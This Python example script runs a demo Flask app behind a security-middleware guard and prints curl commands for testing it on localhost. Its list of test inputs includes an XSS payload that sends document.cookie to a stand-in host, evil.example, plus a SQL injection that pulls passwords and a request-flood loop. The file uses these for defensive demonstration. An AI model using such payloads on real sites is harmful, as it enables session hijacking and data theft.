"""A guarded Flask app to try things on: ``python examples/flask_app.py``, then the curl lines.

With ``--console`` the dashboard runs beside it, and sample traffic fills it.
"""

from __future__ import annotations

import sys
import tempfile
from typing import Any

from flask import Flask, jsonify, request
from flask.typing import ResponseReturnValue
from werkzeug.serving import BaseWSGIServer, make_server

from guard_wsgi_flask import FlaskAPIGuard, SecurityConfig, SecurityDecorator

HOST, PORT = "127.0.0.1", 8000


def start_console() -> dict[str, Any]:
    """Serve a console on a free port; the options that make the app send to it."""
    from sample_traffic import SampleCountries

    from guard_wsgi_flask.console import ConsoleSettings
    from guard_wsgi_flask.console.serving import Console

    folder = tempfile.mkdtemp(prefix="guard-console-")
    console = Console(ConsoleSettings(port=0, database=f"sqlite:///{folder}/console.db"))
    key = console.services.keys.create("example", "the example")
    console.start()
    print(f"\nThe guard's log: {folder}/guard.log", flush=True)
    print(f"\nThe console, with a link that works once:\n\n  {console.link()}", flush=True)
    return {
        "custom_log_file": f"{folder}/guard.log",  # the sample traffic would fill the terminal
        "enable_agent": True,
        "agent_endpoint": console.url,
        "agent_api_key": key.text,
        "agent_project_id": key.app,
        "agent_send_paths": True,  # they stay on this machine
        "agent_flush_interval": 1,  # for a page that lives; the default of 5 s costs less
        "agent_status_interval": 60,
        "enable_dynamic_rules": True,
        "trusted_proxies": ["127.0.0.1"],  # so that the sample has many clients
        "geo_ip_handler": SampleCountries(),
    }


WITH_CONSOLE = __name__ == "__main__" and "--console" in sys.argv[1:]

config = SecurityConfig(
    rate_limit=60,  # sixty requests
    rate_limit_window=60,  # a minute, for each client
    security_headers="html",
    **(start_console() if WITH_CONSOLE else {}),
)
guard = SecurityDecorator(config)
app = Flask(__name__)


@app.get("/")
def home() -> ResponseReturnValue:
    return "<h1>Hello</h1><p>This page is guarded.</p>"


@app.get("/search")
def search() -> ResponseReturnValue:
    return jsonify(results=[], query=request.args.get("q", ""))


@app.post("/comments")
def comment() -> ResponseReturnValue:
    posted = request.get_json()
    return jsonify(saved=posted), 201


@app.post("/login")
@guard.rate_limit(5, window=60)
@guard.honeypot_detection(["website"])  # hidden from people; programs fill it in
def login() -> ResponseReturnValue:
    return f"hello, {request.form.get('user', 'nobody')}"


FlaskAPIGuard(app, config=config)


def curl_lines(base: str) -> list[tuple[str, str]]:
    """What to try, as (what happens, command)."""
    json = f"curl -i {base}/comments -H 'Content-Type: application/json' -d"
    script = "<script>fetch(`//evil.example?`+document.cookie)</script>"
    return [
        ("a normal page", f"curl -i {base}/"),
        ("a harmless search", f"curl -i '{base}/search?q=select+a+union+rep'"),
        (
            "an injection in a query: 400",
            f"curl -i '{base}/search?q=1%27+UNION+SELECT+password+FROM+users--'",
        ),
        ("a comment: 201", f"""{json} '{{"text": "thanks!"}}'"""),
        ("one with an injection in its JSON: 400", f"""{json} '{{"text": "{script}"}}'"""),
        ("a field that people can't see: 403", f"curl -i {base}/login -d website=x"),
        (
            "a flood: 200 up to the limit, then 429",
            f"for i in $(seq 80); do curl -s -o /dev/null -w '%{{http_code}}\\n' {base}/; done"
            " | sort | uniq -c",
        ),
    ]


def bound() -> BaseWSGIServer:
    """The server, on another port where the usual one is taken: nothing is printed before."""
    try:
        return make_server(HOST, PORT, app, threaded=True)
    except OSError:
        return make_server(HOST, 0, app, threaded=True)


if __name__ == "__main__":
    server = bound()
    port = server.server_port
    print(f"\nA guarded app on http://{HOST}:{port}/. In another terminal, try:\n")
    for what, command in curl_lines(f"http://{HOST}:{port}"):
        print(f"  # {what}\n  {command}\n")
    if WITH_CONSOLE:
        import sample_traffic

        sample_traffic.start(HOST, port)
    server.serve_forever()
